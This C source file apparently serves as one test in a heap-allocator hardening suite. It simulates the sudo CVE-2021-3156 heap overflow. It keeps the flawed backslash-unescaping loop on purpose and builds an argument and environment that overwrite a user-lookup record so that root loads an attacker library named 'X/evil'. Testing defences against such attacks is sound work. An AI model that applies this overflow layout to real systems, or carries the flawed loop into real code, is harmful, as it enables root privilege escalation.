/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * CVE-2021-3156, sudo 1.8.2 to 1.9.5p1: removing the backslashes from an argument that ends with one copies
 * on past the argument's end, into a block that was measured for the arguments alone.
 *
 * Program arguments and environment lie one after the other in memory, so the environment says what is
 * written behind the block, zeros included: a string that is a backslash alone stands for one. What lay
 * behind it was, in one of the published exploits, the C library's record of a source of users, whose name
 * decides which library is loaded next.
 *
 * The size is how many bytes the environment writes past the block's end: 40 reach the neighbour, more lay
 * the same record into every slot that follows.
 */
#include "attack.h"

struct source_of_users {
    struct source_of_users *next;
    void *library; /* NULL: not loaded yet */
    char name[24];
};

/* The block that is overflowed is as large as the record, so that glibc and compatmalloc keep both in one
 * class. */
#define BLOCK_SIZE sizeof(struct source_of_users)
#define SLOT_SIZE  48

static char strings[512 * 1024];

/* One argument, and behind it an environment that makes the faulty loop write `size` bytes past the block. */
static const char *lay_out_attack(size_t size)
{
    char *to = strings;
    memset(to, 'A', BLOCK_SIZE - 2);
    to += BLOCK_SIZE - 2;
    *to++ = '\\';
    *to++ = '\0';
    char record[SLOT_SIZE] = {0};
    const char name[] = "X/evil";
    memcpy(record + offsetof(struct source_of_users, name), name, sizeof name);
    for (size_t offset = BLOCK_SIZE - 1; offset < BLOCK_SIZE + size - 1; offset++) {
        char wanted = record[offset % SLOT_SIZE];
        if (wanted == '\0')
            *to++ = '\\';
        *to++ = wanted;
    }
    *to = '\0';
    return strings;
}

/* The argument without its backslashes. */
static char *unescaped(const char *argument)
{
    char *plain = must(malloc(strlen(argument) + 1));
    size_t length = 0;
    for (const char *at = opaque(argument); *at != '\0'; at++) {
        /* The mistake: what follows a backslash is a character, even where it is the end of the string. */
        if (*at == '\\')
            at++;
        plain[length++] = *at;
    }
    plain[length] = '\0';
    return plain;
}

static void look_up_user(const struct source_of_users *source)
{
    source = opaque(source);
    if (source->library != NULL)
        return;
    char library[64];
    snprintf(library, sizeof library, "libnss_%s.so.2", source->name);
    if (strchr(library, '/') != NULL)
        attacker("root loads %s from the current directory", library);
}

/* As sudo goes about it: a hole left by an earlier block, the record behind it, the arguments, the look-up.
 */
static char *run(const char *argument)
{
    void *locale = must(malloc(BLOCK_SIZE));
    struct source_of_users *source = must(calloc(1, sizeof *source));
    strcpy(source->name, "files");
    free(locale);
    char *plain = unescaped(argument);
    look_up_user(source);
    return plain;
}
